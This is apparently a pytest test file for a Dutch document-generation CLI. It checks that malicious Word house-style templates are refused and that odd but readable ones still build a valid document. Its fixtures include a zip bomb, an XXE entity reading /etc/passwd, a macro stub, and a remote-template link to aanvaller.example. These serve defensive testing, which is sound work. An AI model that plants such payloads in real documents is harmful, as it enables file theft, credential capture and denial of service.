"""House styles and documents from outside: bombs, entities, macros and links refused; odd ones still work."""

from __future__ import annotations

import io
import re
import shutil
import zipfile
from pathlib import Path

import docx
import pytest
from conftest import EXAMPLES, files_in
from ooxml_support import assert_schema_valid

EXAMPLE = EXAMPLES / "sok-energiecooperatie.yaml"


def plain_docx() -> bytes:
    stream = io.BytesIO()
    document = docx.Document()
    document.sections[0].header.paragraphs[0].text = "Gemeente Noorderzijl"
    document.save(stream)
    return stream.getvalue()


BASE = plain_docx()


def repacked(path: Path, change=None, add: dict[str, bytes] | None = None) -> Path:
    """A copy of a plain house style with parts changed (`change(name, data) -> data`) or added."""
    with zipfile.ZipFile(io.BytesIO(BASE)) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item)
            target.writestr(item.filename, change(item.filename, data) if change else data)
        for name, data in (add or {}).items():
            target.writestr(name, data)
    return path


def in_part(part: str, old: bytes, new: bytes):
    def change(name: str, data: bytes) -> bytes:
        if name != part:
            return data
        assert re.search(old, data), f"{part} has no {old!r}"
        return re.sub(old, new, data, count=1)
    return change


@pytest.fixture
def source(tmp_path) -> Path:
    path = tmp_path / "a.yaml"
    shutil.copy(EXAMPLE, path)
    return path


def refused(result, *phrases):
    assert result.code == 2, (result.out, result.err)
    for phrase in phrases:
        assert phrase in result.err, result.err
    assert "Interne fout" not in result.err
    return result.err


def test_a_zip_bomb_is_refused_before_it_is_inflated(run_cli, tmp_path, source):
    bomb = tmp_path / "bom.docx"
    with zipfile.ZipFile(io.BytesIO(BASE)) as plain, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as target:
        for item in plain.infolist():
            target.writestr(item.filename, plain.read(item))
        with target.open("word/media/image1.png", "w") as stream:  # 110 MB of zeros, 110 kB packed
            block = bytes(1 << 20)
            for _ in range(110):
                stream.write(block)
    assert bomb.stat().st_size < 2_000_000
    refused(run_cli("maak", source, "--huisstijl", bomb), "uitgepakt te groot")
    # controleer reads only the text parts, each bounded, so the image is never inflated there.
    checked = run_cli("controleer", bomb)
    assert checked.code in (0, 1, 2) and "Interne fout" not in checked.err
    assert files_in(tmp_path) == ["a.yaml", "bom.docx"]


@pytest.mark.parametrize("entity", [b'<!DOCTYPE w:hdr [<!ENTITY gem "Gemeente X">]>',
                                    b'<!DOCTYPE w:hdr [<!ENTITY gem SYSTEM "file:///etc/passwd">]>'])
def test_an_entity_in_the_header_is_refused_not_copied_into_a_broken_document(run_cli, tmp_path, source, entity):
    style = repacked(tmp_path / "h.docx", in_part("word/header1.xml", rb"(<\?xml[^>]*\?>)", rb"\1" + entity))
    refused(run_cli("maak", source, "--huisstijl", style), "word/header1.xml", "XML-entiteiten")
    assert not source.with_suffix(".docx").exists()


def test_macros_and_external_links_are_refused(run_cli, tmp_path, source):
    macro = repacked(tmp_path / "m.docx", add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"})
    refused(run_cli("maak", source, "--huisstijl", macro), "macro's")
    link = (b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            b'attachedTemplate" Target="file://///aanvaller.example/share/t.dotm" TargetMode="External"/>')
    linked = repacked(tmp_path / "l.docx", in_part("word/_rels/document.xml.rels", rb"</Relationships>",
                                                   link + b"</Relationships>"))
    refused(run_cli("maak", source, "--huisstijl", linked), "verwijst naar een bestand elders", "aanvaller.example")


@pytest.mark.parametrize("case, change", [
    ("zonder sectPr", in_part("word/document.xml", rb"<w:sectPr[\s\S]*</w:sectPr>", b"")),
    ("kale sectPr", in_part("word/document.xml", rb"<w:sectPr[\s\S]*</w:sectPr>", b"<w:sectPr/>")),
    ("breedte als woord", in_part("word/document.xml", rb'w:w="\d+"', b'w:w="breed"')),
    ("lege kop", in_part("word/header1.xml", rb"<w:p>[\s\S]*</w:p>|<w:p [\s\S]*</w:p>", b"")),
    ("nummering zonder getal", in_part("word/numbering.xml", rb'w:abstractNumId="\d+"', b'w:abstractNumId="x"')),
    ("nummering zonder id", in_part("word/numbering.xml", rb' w:abstractNumId="\d+"', b"")),
])
def test_odd_but_readable_house_styles_give_a_valid_document(run_cli, tmp_path, source, case, change):
    style = repacked(tmp_path / "huisstijl.docx", change)
    result = run_cli("maak", source, "--huisstijl", style, "--zonder-opmerkingen")
    assert result.code in (0, 1), result.err
    built = source.with_suffix(".docx")
    document = docx.Document(str(built))
    assert any(paragraph.text.startswith("Samenwerkingsovereenkomst") or "OVEREENKOMST" in paragraph.text
               for paragraph in document.paragraphs)
    assert_schema_valid(built)


def test_a_house_style_with_a_huge_table_in_its_body_is_quick(run_cli, tmp_path, source):
    # Its body is dropped before python-docx parses it; removing it afterwards took minutes.
    import time

    row = "<w:tr>" + "<w:tc><w:p/></w:tc>" * 300 + "</w:tr>"
    table = ("<w:tbl><w:tblGrid>" + '<w:gridCol w:w="10"/>' * 300 + "</w:tblGrid>" + row * 300 + "</w:tbl>").encode()
    style = repacked(tmp_path / "tabel.docx", in_part("word/document.xml", rb"<w:body>", b"<w:body>" + table))
    start = time.process_time()
    result = run_cli("maak", source, "--huisstijl", style)
    assert result.code in (0, 1), result.err
    assert time.process_time() - start < 5
    header = docx.Document(str(source.with_suffix(".docx"))).sections[0].header
    assert "Gemeente Noorderzijl" in header.paragraphs[0].text
